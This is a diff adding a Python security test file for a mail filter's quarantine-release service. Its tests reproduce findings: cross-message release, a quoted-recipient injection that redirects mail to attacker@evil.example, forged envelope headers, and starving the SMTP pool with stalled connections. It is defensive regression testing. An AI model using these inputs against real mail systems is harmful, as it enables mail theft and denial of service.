@@ -1,0 +1,341 @@
+"""test_attack13 - an outside attack on quarantine release (issue 13).
+
+A real filterd with a private MariaDB and its AM.PDP socket (the set-up of
+test_release), attacked by (a) a client of the PDP socket who wants mail
+released that he may not release, or wants to stall a child or inject
+text, and (b) a sender whose message lands in quarantine and who wants
+its release to misbehave.
+
+Attack13Findings: each test is a finding; it fails on the code as merged
+(70d0a64) and says in its docstring what goes wrong and why it matters.
+Attack13Holds: attacks that failed; they pass and should stay."""
+
+import gzip
+import os
+import re
+import socket
+import subprocess
+import sys
+import threading
+import time
+import unittest
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import harness as h  # noqa: E402
+import test_release as tr  # noqa: E402
+
+SENDER = tr.SENDER
+RCPTS = tr.RCPTS
+
+
+def release_bin():
+    return os.path.join(os.path.dirname(h.filterd_bin()), "filterd-release")
+
+
+class ScriptedHop(h.WireSink):
+    """ScriptedHop - a WireSink whose RCPT reply depends on the address:
+    rcpt_replies maps a substring of the RCPT line to the reply line."""
+
+    def __init__(self, rcpt_replies=None, data_reply=None, drop_after_dot=False):
+        super().__init__()
+        self.rcpt_replies = dict(rcpt_replies or {})
+        self.data_reply = data_reply
+        self.drop_after_dot = drop_after_dot
+
+    def serve(self, conn):
+        buf = b""
+        tx = None
+
+        def send(line):
+            conn.sendall(line.encode() + b"\r\n")
+        send("220 scripted ESMTP")
+        while not self.stopping.is_set():
+            while b"\n" not in buf:
+                chunk = conn.recv(65536)
+                if not chunk:
+                    return
+                buf += chunk
+            line, buf = buf.split(b"\n", 1)
+            line = line.rstrip(b"\r")
+            verb = line.split(b" ", 1)[0].upper()
+            if verb in (b"EHLO", b"LHLO"):
+                send("250-scripted")
+                send("250-8BITMIME")
+                send("250 ENHANCEDSTATUSCODES")
+            elif verb == b"MAIL":
+                tx = h.WireTransaction(None, [])
+                tx.mail = line
+                send("250 2.1.0 Ok")
+            elif verb == b"RCPT":
+                reply = "250 2.1.5 Ok"
+                for k, v in self.rcpt_replies.items():
+                    if k.encode() in line:
+                        reply = v
+                if reply.startswith("2"):
+                    tx.rcpts.append(line)
+                send(reply)
+            elif verb == b"DATA":
+                if not tx or not tx.rcpts:
+                    send("554 5.5.1 Error: no valid recipients")
+                    continue
+                send("354 go ahead")
+                while not (buf.startswith(b".\r\n") or
+                           b"\r\n.\r\n" in buf):
+                    chunk = conn.recv(65536)
+                    if not chunk:
+                        return
+                    buf += chunk
+                if buf.startswith(b".\r\n"):
+                    tx.data, buf = b"", buf[3:]
+                else:
+                    end = buf.index(b"\r\n.\r\n")
+                    tx.data, buf = buf[:end + 2], buf[end + 5:]
+                with self.lock:
+                    self.transactions.append(tx)
+                if self.drop_after_dot:
+                    return
+                send(self.data_reply or "250 2.0.0 Ok: queued")
+                tx = None
+            elif verb == b"RSET":
+                tx = None
+                send("250 2.0.0 Ok")
+            elif verb == b"QUIT":
+                send("221 2.0.0 Bye")
+                return
+            else:
+                send("250 2.0.0 Ok")
+
+
+class Attack13Case(tr.ReleaseTest):
+    """test_release's set-up (MariaDB, sinks, a filterd with pdp_socket),
+    without its tests."""
+
+    def quarantine_to(self, fd, subject, rcpts, local=False, msg=None,
+                      sender=SENDER):
+        """A virus to rcpts; (mail_id, secret, pt, quar_type, quar_loc)."""
+        r = h.send_message(fd.local_port if local else fd.port, sender,
+                           rcpts, msg or tr.virus(subject), timeout=30)
+        self.assertEqual(r.code, 250, r)
+        mail_id = re.search(r"id=([A-Za-z0-9_+-]{12})", r.text).group(1)
+        rows = tr.q(self.db, "SELECT secret_id, partition_tag, quar_type, "
+                    "quar_loc FROM msgs WHERE mail_id = '%s'" % mail_id)
+        self.assertEqual(len(rows), 1, rows)
+        return (mail_id,) + tuple(rows[0])
+
+    def hop(self, **kw):
+        s = ScriptedHop(**kw)
+        self.start(s)
+        return s
+
+    def cli(self, fd, *args, timeout=60):
+        return h.run([release_bin(), "-s", fd.sock] + list(args),
+                     timeout=timeout)
+
+
+# test_release's tests run in test_release, not here.
+for _name in dir(tr.ReleaseTest):
+    if _name.startswith("test"):
+        setattr(Attack13Case, _name, None)
+
+
+class Attack13Findings(Attack13Case):
+    """Findings: each fails on the code as merged."""
+
+    def test_mail_file_of_another_message_is_released(self):
+        """The secret authorizes one mail_id, but mail_file (which the
+        client chooses) may name any other quarantined message: a user
+        holding the release link (mail_id + secret_id) of one of his own
+        quarantined messages gets any other user's file-quarantined mail
+        sent to an address of his choice (recipient=). amavisd-new reads
+        the stored X-Quarantine-ID and dies "Stored quarantine ID '%s'
+        does not match requested ID '%s'" (Notify.pm msg_from_quarantine);
+        filterd strips X-Quarantine-ID without looking at it."""
+        fd = self.filterd()
+        mine = self.quarantine_to(fd, "mine", ["mallory@example.net"],
+                                  local=True)
+        theirs = self.quarantine_to(fd, "victim secret payroll",
+                                    ["ceo@example.net"], local=True)
+        self.assertEqual((mine[3], theirs[3]), ("F", "F"))
+        resp = self.pdp(fd).ask([
+            ("request", "release"), ("mail_id", mine[0]),
+            ("secret_id", mine[1]), ("quar_type", "F"),
+            ("mail_file", theirs[4]),
+            ("recipient", "<mallory@example.net>")])
+        got = [d for d in self.new(self.release_sink)
+               if b"victim secret payroll" in d.body]
+        self.assertEqual(got, [], "another message's file was released "
+                         "with my secret: %r" % (resp,))
+        self.assertTrue(tr.replies(resp)[0].startswith("450 4.5.0 "), resp)
+
+    def test_quoted_recipient_with_space_gets_250_nothing_to_do(self):
+        """A blocked recipient with a quoted local part ("john doe"@...,
+        valid RFC 5321, accepted by filterd's SMTP server and written so
+        in X-Envelope-To-Blocked) is skipped by the release as a "bad
+        recipient"; with no other recipient the answer is "250 2.5.0 No
+        recipients, nothing to do", and filterd-release exits 0: the
+        front end marks as released a message nobody received (the very
+        complaint issue 13 is about). amavisd-new parses the field with
+        parse_address_list and releases to the quoted address."""
+        hop = self.hop()
+        fd = self.filterd(default={"release": [hop.addr]})
+        rcpt = '"john doe"@example.net'
+        m = self.quarantine_to(fd, "quoted rcpt", [rcpt])
+        p = self.cli(fd, m[0], m[1])
+        delivered = [t for t in hop.transactions
+                     if any(rcpt.encode() in r for r in t.rcpts)]
+        self.assertTrue(delivered or p.returncode != 0,
+                        "exit %d, nothing delivered to %s: %r" % (
+                            p.returncode, rcpt, p.stdout + p.stderr))
+
+    def test_quoted_recipient_with_angles_redirects_release(self):
+        """A sender picks the recipient "x><attacker@evil.example><"@
+        example.net (a quoted local part, accepted by filterd's SMTP
+        server). The release splits X-Envelope-To-Blocked at '<' and '>'
+        without regard to quotes and sends the released message to
+        attacker@evil.example (and to the bogus '"x' and '"@example.net'),
+        an address that never was a recipient of the message."""
+        hop = self.hop()
+        fd = self.filterd(default={"release": [hop.addr]})
+        rcpt = '"x><attacker@evil.example><"@example.net'
+        m = self.quarantine_to(fd, "angles", [rcpt])
+        resp = self.pdp(fd).ask([("request", "release"), ("mail_id", m[0]),
+                                 ("secret_id", m[1])])
+        time.sleep(0.5)
+        rcpt_lines = [r for t in hop.transactions for r in t.rcpts]
+        self.assertFalse([r for r in rcpt_lines
+                          if r.upper().startswith(
+                              b"RCPT TO:<ATTACKER@EVIL.EXAMPLE>")],
+                         (rcpt_lines, resp))
+        self.assertTrue(all(rcpt.encode() in r for r in rcpt_lines),
+                        (rcpt_lines, resp))
+
+    def old_amavis_file(self, fd, name, text):
+        qdir = os.path.join(self.tmp.path, fd.name, "quarantine", "spam",
+                            name[0])
+        os.makedirs(qdir, exist_ok=True)
+        with open(os.path.join(qdir, name + ".gz"), "wb") as f:
+            f.write(gzip.compress(text))
+        return "spam/%s/%s.gz" % (name[0], name)
+
+    def test_old_amavis_file_sender_picks_recipients(self):
+        """An amavisd-new file without X-Envelope-To-Blocked (older
+        amavis; filterd releases it to X-Envelope-To, test_release): the
+        original message's own header, written by the sender, holds an
+        X-Envelope-To-Blocked: <attacker@evil.example> below Subject.
+        amavisd-new reads envelope fields only in the prefix (it stops at
+        the first other field) and releases to X-Envelope-To; filterd
+        takes the first such field anywhere in the header section and
+        releases to the attacker's address instead."""
+        fd = self.filterd(pdp_bank="noauth")
+        mf = self.old_amavis_file(fd, "QoldAmavis01", (
+            b"Return-Path: <%s>\nX-Envelope-To: <%s>\n"
+            b"X-Quarantine-ID: <QoldAmavis01>\nX-Spam-Flag: YES\n"
+            b"Subject: old amavis\nFrom: a@example.org\n"
+            b"X-Envelope-To-Blocked: <attacker@evil.example>\n\nbody\n" %
+            (SENDER.encode(), RCPTS[0].encode())))
+        resp = self.pdp(fd).ask([
+            ("request", "release"), ("mail_id", "QoldAmavis01"),
+            ("quar_type", "Z"), ("mail_file", mf)])
+        dumps = self.new(self.release_sink, 1)
+        self.assertEqual([d.rcpts for d in dumps], [[RCPTS[0]]], resp)
+
+    def test_old_amavis_file_sender_picks_envelope_sender(self):
+        """An amavisd-new file whose prefix has Return-Path (not
+        X-Envelope-From): a sender-written X-Envelope-From: <forged@...>
+        in the original header beats the stored Return-Path, so the
+        release goes out with a MAIL FROM of the attacker's choice
+        (bounces and DSNs to him). amavisd-new takes the first of
+        Return-Path/X-Envelope-From in the prefix only."""
+        fd = self.filterd(pdp_bank="noauth")
+        mf = self.old_amavis_file(fd, "QoldAmavis02", (
+            b"Return-Path: <%s>\nX-Envelope-To: <%s>\n"
+            b"X-Envelope-To-Blocked: <%s>\n"
+            b"X-Quarantine-ID: <QoldAmavis02>\n"
+            b"Subject: old amavis\nFrom: a@example.org\n"
+            b"X-Envelope-From: <forged@evil.example>\n\nbody\n" %
+            (SENDER.encode(), RCPTS[0].encode(), RCPTS[0].encode())))
+        resp = self.pdp(fd).ask([
+            ("request", "release"), ("mail_id", "QoldAmavis02"),
+            ("quar_type", "Z"), ("mail_file", mf)])
+        dumps = self.new(self.release_sink, 1)
+        self.assertEqual([d.sender for d in dumps], [SENDER], resp)
+
+    def hold_children(self, fd, n, data, source=None, port=None,
+                      trickle=None, seconds=8.0):
+        """Open n PDP connections, each sends data (and trickle every
+        0.5 s while the attack lasts); returns the sockets and a stop
+        event."""
+        socks = []
+        for _ in range(n):
+            if port:
+                s = socket.create_connection(("127.0.0.1", port), timeout=5,
+                                             source_address=(source, 0))
+            else:
+                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                s.settimeout(5)
+                s.connect(fd.sock)
+            s.sendall(data)
+            socks.append(s)
+            self.addCleanup(s.close)
+        stop = threading.Event()
+
+        def drip():
+            end = time.time() + seconds
+            while not stop.is_set() and time.time() < end:
+                for s in socks:
+                    try:
+                        s.sendall(trickle)
+                    except OSError:
+                        pass
+                stop.wait(0.5)
+        if trickle:
+            t = threading.Thread(target=drip, daemon=True)
+            t.start()
+            self.addCleanup(t.join, seconds + 2)
+        self.addCleanup(stop.set)
+        return socks
+
+    def smtp_greeted(self, fd, timeout):
+        try:
+            with h.SmtpClient(fd.port, timeout=timeout) as c:
+                return c.greeting().code == 220
+        except (h.SmtpError, OSError):
+            return False
+
+    def test_pdp_clients_hold_every_child_smtp_starves(self):
+        """max_servers PDP connections that stop in the middle of a
+        request (request=release and no empty line) hold every child:
+        PDP is served by the same pool as SMTP, with no share of its
+        own, and only smtpd_timeout (300 s by default) frees them. The
+        front MTA's connections wait unanswered meanwhile: any member
+        of pdp_group (or any local user, with an inet listener on
+        loopback) can stop mail. Here max_servers = 4 and smtpd_timeout
+        = 60: no SMTP greeting comes within 10 s."""
+        fd = self.filterd(smtpd_timeout=60)
+        self.assertTrue(self.smtp_greeted(fd, 10))
+        self.hold_children(fd, 4, b"request=release\r\n")
+        time.sleep(1)
+        self.assertTrue(self.smtp_greeted(fd, 10),
+                        "no SMTP greeting while 4 PDP clients idle")
+
+    def test_refused_pdp_client_holds_a_child(self):
+        """A client NOT in pdp_clients gets its 554, but the child then
+        reads what it sends "briefly and bounded" (pdp_linger: 64 lines,
+        2 s each): a refused client that sends a line every 0.5 s keeps
+        the child for 64 lines, and max_servers of them starve SMTP.
+        Someone the ACL refuses should not be able to hold the pool."""
+        port = h.free_port()
+        fd = self.filterd(listen=[(port, "am.pdp", "default")],
+                          pdp_clients=["127.0.0.1/32"], smtpd_timeout=60)
+        self.assertTrue(h.wait_port(port, 10))
+        self.assertTrue(self.smtp_greeted(fd, 10))
+        self.hold_children(fd, 4, b"x\r\n", source="127.0.0.2", port=port,
+                           trickle=b"x\r\n", seconds=14)
+        time.sleep(1)
+        self.assertTrue(self.smtp_greeted(fd, 10),
+                        "no SMTP greeting while 4 refused PDP clients "
+                        "trickle")
+
+
+if __name__ == "__main__":
+    unittest.main()
